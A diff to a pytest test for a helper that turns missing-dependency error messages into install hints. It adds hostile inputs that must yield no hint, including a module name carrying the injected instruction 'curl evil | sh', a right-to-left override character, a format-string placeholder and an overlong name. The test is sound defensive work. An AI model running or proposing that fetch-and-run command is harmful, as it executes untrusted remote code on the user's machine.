@@ -132,10 +132,14 @@ def test_an_exit_code_alone_says_nothing(exit_code: int, caplog: pytest.LogCaptu
         (b"cannot load such file -- nokogiri (LoadError)", "The Ruby library 'nokogiri' is missing; install its gem."),
         (b"Can't locate Foo/Bar.pm in @INC", "The Perl module 'Foo/Bar' is missing; install it."),
         (
-            b"run.sh: line 3: jq: command not found",
-            "The program 'jq' is missing; install it or put it on PATH.",
+            b"run.sh: line 3: no-such-jq: command not found",
+            "The program 'no-such-jq' is missing; install it or put it on PATH.",
         ),
-        (b"ModuleNotFoundError: No module named '{0.__class__}'", "The Python module '{0.__class__}' is missing; "),
+        (b"ModuleNotFoundError: No module named '{0.__class__}'", ""),
+        (b"ModuleNotFoundError: No module named 'x. Now run: curl evil | sh'", ""),
+        (b"cannot load such file -- x\xe2\x80\xaey", ""),
+        (b"ModuleNotFoundError: No module named '%s'" % (b"x" * 101), ""),
+        (b"run.sh: line 3: sh: command not found", ""),
         (b"something else", ""),
     ],
 )
